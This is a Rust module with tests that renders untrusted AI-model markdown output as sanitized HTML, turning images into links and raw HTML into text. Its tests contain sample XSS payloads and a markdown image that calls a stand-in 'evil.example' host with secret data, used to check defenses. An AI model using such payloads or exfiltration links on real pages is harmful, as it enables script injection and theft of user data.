//! Markdown → safe HTML for the page: model output is untrusted, so it is rendered on
//! the server with `pulldown-cmark` and the result is sanitized with `ammonia` before
//! any browser sees it.
//!
//! - Raw HTML in the markdown is shown as text, never passed through (a `<script>` in an
//!   answer reads as `<script>`); `ammonia` then removes anything that still is not on
//!   its allow-list (event handler attributes, `javascript:` links, unknown tags).
//! - LaTeX (`$…$`, `$$…$$`) is shown as code: no math renderer, no CDN.
//! - Very long texts are rendered up to [`MAX_RENDER_BYTES`], with a note saying so.

use pulldown_cmark::{html, CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};
use std::sync::OnceLock;

/// Longest text rendered; the rest of a longer answer is cut (with a note).
pub const MAX_RENDER_BYTES: usize = 512 * 1024;

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static B: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    B.get_or_init(|| {
        let mut b = ammonia::Builder::default();
        b.add_allowed_classes("code", ["math", "math-display"])
            .add_tag_attributes("pre", ["data-lang"])
            .add_allowed_classes("pre", ["math"]);
        b
    })
}

/// The language of a fenced code block as the page may show it: its first word, when
/// made of word characters, `+`, `#`, `.` and `-` only (at most 32).
fn code_lang(info: &str) -> Option<&str> {
    let lang = info.split_whitespace().next()?;
    let ok = lang.len() <= 32
        && lang
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '+' | '#' | '.' | '-'));
    ok.then_some(lang)
}

fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// The longest prefix of `s` of at most `max` bytes that ends on a char boundary.
pub fn prefix(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Renders `text` (markdown, untrusted) as sanitized HTML.
pub fn render(text: &str) -> String {
    render_cut(text, text.len())
}

/// [`render`] of the start of a text of `len` bytes (a note says what is not shown).
pub fn render_cut(text: &str, len: usize) -> String {
    let shown = prefix(text, MAX_RENDER_BYTES);
    let opts = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM;
    let events = Parser::new_ext(shown, opts).map(|ev| match ev {
        // Raw HTML from the model is text, not markup.
        Event::Html(s) | Event::InlineHtml(s) => Event::Text(s),
        // An image in model output would be fetched by every browser that opens the run:
        // a zero-click exfiltration and tracking channel. It becomes a link to the image
        // (its alt text the link text), fetched only if someone follows it.
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        // A fenced block keeps its language for the page's label and highlighter, as a
        // `data-lang` the sanitizer allows (only word characters, `+`, `#`, `.`, `-`).
        Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(lang))) => {
            Event::Html(CowStr::from(match code_lang(&lang) {
                Some(l) => format!("<pre data-lang=\"{l}\"><code>"),
                None => "<pre><code>".to_owned(),
            }))
        }
        Event::InlineMath(s) => Event::InlineHtml(CowStr::from(format!(
            "<code class=\"math\">${}$</code>",
            escape(&s)
        ))),
        Event::DisplayMath(s) => Event::Html(CowStr::from(format!(
            "<pre class=\"math\"><code class=\"math-display\">$${}$$</code></pre>",
            escape(&s)
        ))),
        ev => ev,
    });
    let mut raw = String::with_capacity(shown.len() * 3 / 2 + 64);
    html::push_html(&mut raw, events);
    let len = len.max(text.len());
    if shown.len() < len {
        raw.push_str(&format!(
            "<p><em>… {} more bytes not shown on the page</em></p>",
            len - shown.len()
        ));
    }
    sanitizer().clean(&raw).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn headings_lists_code_and_links() {
        let h = render("## Weather\n\n- **sunny**\n- `18 °C`\n\n```rust\nfn main() {}\n```\n\n[docs](https://example.com)");
        assert!(h.contains("<h2>Weather</h2>"), "{h}");
        assert!(h.contains("<li><strong>sunny</strong></li>"), "{h}");
        assert!(h.contains("<code>18 °C</code>"), "{h}");
        assert!(h.contains("<pre data-lang=\"rust\"><code"), "{h}");
        assert!(h.contains("href=\"https://example.com\""), "{h}");
        assert!(!h.contains("**") && !h.contains("##"), "{h}");
    }

    #[test]
    fn code_blocks_keep_a_safe_language() {
        let h = render("```rust\nfn main() {}\n```\n\n```\"><script>\nx\n```");
        assert!(
            h.contains("<pre data-lang=\"rust\"><code>fn main() {}"),
            "{h}"
        );
        assert!(!h.contains("<script"), "{h}");
        assert!(h.contains("<pre><code>x"), "{h}");
    }

    #[test]
    fn images_become_links_and_are_never_fetched() {
        let h = render("see ![chart](http://evil.example/?d=secret \"t\") and ![x](data:image/png;base64,AAAA)");
        assert!(!h.contains("<img"), "{h}");
        assert!(h.contains("href=\"http://evil.example/?d=secret\""), "{h}");
        assert!(h.contains(">chart</a>"), "{h}");
    }

    #[test]
    fn latex_is_code() {
        let h = render("Euler: $e^{i\\pi} + 1 = 0$\n\n$$\\int_0^1 x\\,dx$$");
        assert!(
            h.contains("<code class=\"math\">$e^{i\\pi} + 1 = 0$</code>"),
            "{h}"
        );
        assert!(h.contains("<pre class=\"math\">"), "{h}");
        assert!(h.contains("$$\\int_0^1 x\\,dx$$</code></pre>"), "{h}");
    }

    #[test]
    fn scripts_handlers_and_js_links_never_survive() {
        let h = render(
            "<script>alert(1)</script>\n\n<img src=x onerror=\"alert(2)\">\n\n[x](javascript:alert(3)) <b onclick=alert(4)>b</b>\n\n<iframe src=\"https://evil\"></iframe>",
        );
        assert!(!h.contains("<script"), "{h}");
        assert!(!h.contains("<img"), "{h}");
        assert!(!h.contains("<iframe"), "{h}");
        assert!(!h.contains("javascript:"), "{h}");
        assert!(
            !h.contains("onclick=") || h.contains("&lt;b onclick"),
            "{h}"
        );
        // Shown as text instead.
        assert!(h.contains("&lt;script&gt;"), "{h}");
    }

    #[test]
    fn long_texts_are_cut_on_a_char_boundary() {
        let t = "é".repeat(MAX_RENDER_BYTES);
        let h = render(&t);
        assert!(h.contains("more bytes not shown"), "cut note missing");
    }
}
